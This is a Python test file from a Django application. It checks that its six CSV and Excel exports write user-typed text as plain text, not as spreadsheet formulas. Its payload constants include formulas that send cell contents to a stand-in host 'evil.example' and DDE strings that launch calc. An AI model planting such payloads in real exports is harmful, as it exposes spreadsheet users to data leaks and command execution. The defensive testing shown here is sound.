"""No export hands a spreadsheet a formula: text typed by people comes out as text.

Payloads are planted where people type (an organisation's name, a person's name,
an action's title, an answer's comment, a practice's title) and the six exports are
downloaded through their URLs and opened as a spreadsheet program would.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from levier.accounts.models import OrgRole
from levier.assessments import services as assessments
from levier.engine.packs import SINGLE_CHOICE
from levier.frameworks.services import latest_version, sync_shipped_packs
from levier.lib.spreadsheets import FORMULA_TRIGGERS
from levier.plans.models import Action
from levier.practices.models import Adoption
from tests.factories import make_member, make_network, make_network_staff, make_organisation
from tests.practices.factories import make_practice

pytestmark = pytest.mark.django_db

ORGANISATION = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
PERSON = "+cmd|' /C calc'!A0"
ACTION = "-2+3+cmd|' /C calc'!A0"
COMMENT = '@SUM(1+1)*cmd|" /C calc"!A0'
PRACTICE = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'
PRACTICE_EN = "-1+1"
SUMMARY = "\t=1+1"
CONTEXT = "\r=2+2"


@pytest.fixture
def planted():
    """A network of five members, the first of which has a hostile name everywhere."""
    sync_shipped_packs()
    network = make_network()
    company = make_organisation(network, name=ORGANISATION)
    for n in range(4):
        make_organisation(network, name=f"Membre {n}")
    admin = make_member(company, OrgRole.ADMIN, full_name=PERSON)
    practice = make_practice(
        network,
        code="piege",
        title=PRACTICE,
        title_en=PRACTICE_EN,
        summary=SUMMARY,
        context=CONTEXT,
    )
    Adoption.objects.create(practice=practice, organisation=company, declared_by=admin)
    assessment = assessments.start(company, latest_version(), "2026", admin)
    question = next(
        q
        for q in assessments.applicable_questions(assessment)
        if q.type == SINGLE_CHOICE and q.condition is None
    )
    lowest = min(question.levels, key=lambda level: level.points)
    assessments.save_answer(
        assessment,
        question,
        assessments.AnswerInput(levels=(lowest.code,), comment=COMMENT),
        admin,
        0,
    )
    assessments.submit(assessment, admin)
    Action.objects.create(
        organisation=company, title=ACTION, owner=admin, practice=practice, created_by=admin
    )
    # What was stored is what exports write: texts are cleaned on save.
    practice.refresh_from_db()
    assert (practice.summary, practice.context) == (SUMMARY, CONTEXT)
    return network, company, admin, assessment


def _downloads(client, planted) -> dict[str, bytes]:
    network, company, admin, assessment = planted
    animator = make_network_staff(network)
    client.force_login(animator)
    files = {
        "practices.csv": reverse("practice_export", args=[network.slug, "csv"]),
        "practices.xlsx": reverse("practice_export", args=[network.slug, "xlsx"]),
        "insights.csv": reverse("insights_export", args=[network.slug, "csv"]),
        "insights.xlsx": reverse("insights_export", args=[network.slug, "xlsx"]),
    }
    downloaded = {name: client.get(url) for name, url in files.items()}
    client.force_login(admin)
    downloaded["plan.xlsx"] = client.get(reverse("plan_xlsx", args=[company.slug]))
    downloaded["results.xlsx"] = client.get(
        reverse("assessment_results_xlsx", args=[company.slug, assessment.pk])
    )
    for name, response in downloaded.items():
        assert response.status_code == 200, name
    return {name: response.content for name, response in downloaded.items()}


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def _xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "formula cells"
    return [cell.value for cell in cells]


# Where each payload must appear, quoted.
EXPECTED = {
    "practices.csv": [PRACTICE, PRACTICE_EN, SUMMARY, CONTEXT],
    "practices.xlsx": [PRACTICE, PRACTICE_EN, SUMMARY, CONTEXT],
    "insights.csv": [PRACTICE],
    "insights.xlsx": [PRACTICE],
    "plan.xlsx": [ORGANISATION, ACTION, PERSON, PRACTICE],
    "results.xlsx": [COMMENT, PERSON],
}


def test_every_export_writes_hostile_text_as_text(client, planted):
    downloads = _downloads(client, planted)

    assert downloads.keys() == EXPECTED.keys()
    for name, content in downloads.items():
        values = _csv_cells(content) if name.endswith(".csv") else _xlsx_cells(content)
        texts = [value for value in values if isinstance(value, str)]
        assert not [text for text in texts if text.startswith(FORMULA_TRIGGERS)], name
        for payload in EXPECTED[name]:
            if name.endswith(".xlsx"):
                payload = payload.replace("\r", "\n")  # XML reads a carriage return so
            assert "'" + payload in texts, (name, payload)


def test_numbers_stay_numbers_in_exports(client, planted):
    _network, company, admin, _assessment = planted
    Action.objects.filter(title=ACTION).update(indicator_baseline=-3.5)
    client.force_login(admin)

    content = client.get(reverse("plan_xlsx", args=[company.slug])).content

    assert -3.5 in _xlsx_cells(content)
